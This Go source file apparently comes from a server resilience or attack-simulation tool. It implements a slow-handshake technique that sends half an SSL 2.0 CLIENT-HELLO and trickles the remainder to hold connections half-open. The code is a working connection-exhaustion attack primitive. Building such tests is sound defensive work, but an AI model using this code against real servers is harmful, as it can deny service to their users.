package attackers

import "bytes"

// tlsSSLv2Hello parks a connection inside a ClientHello in the SSL 2.0 format.
//
//	client                                  server
//	  |------------ TCP handshake ----------->|
//	  |-- SSL 2.0 CLIENT-HELLO, first half -->|  waits for the second half
//	  |..... trickle: second half but 1 ......|
//
// The format is two bytes of length with the high bit set, type 1, version, three
// lengths, cipher specs, challenge (RFC 5246 appendix E.2). The half-open connections
// of the Slapper worm used it.
func tlsSSLv2Hello() implementation {
	return implementation{reach: func(c *client) error {
		hello := sslv2Hello()
		half := len(hello) / 2
		c.trickle = trickleBytes(c.rw(), hello[half:len(hello)-1])
		return c.send("send half an SSL 2.0 CLIENT-HELLO", string(hello[:half]))
	}}
}

// sslv2Hello is a well-formed SSL 2.0 CLIENT-HELLO: the seven cipher specs that
// SSL 2.0 defines, no session, a challenge of 16 bytes. Nothing in it is overlong.
func sslv2Hello() []byte {
	specs := []byte{
		0x01, 0x00, 0x80, // RC4_128_WITH_MD5
		0x02, 0x00, 0x80, // RC4_128_EXPORT40_WITH_MD5
		0x03, 0x00, 0x80, // RC2_128_CBC_WITH_MD5
		0x04, 0x00, 0x80, // RC2_128_CBC_EXPORT40_WITH_MD5
		0x05, 0x00, 0x80, // IDEA_128_CBC_WITH_MD5
		0x06, 0x00, 0x40, // DES_64_CBC_WITH_MD5
		0x07, 0x00, 0xc0, // DES_192_EDE3_CBC_WITH_MD5
	}
	challenge := bytes.Repeat([]byte{0x5a}, 16)
	body := []byte{1, 0, 2, 0, byte(len(specs)), 0, 0, 0, byte(len(challenge))}
	body = append(append(body, specs...), challenge...)
	return append([]byte{0x80, byte(len(body))}, body...)
}
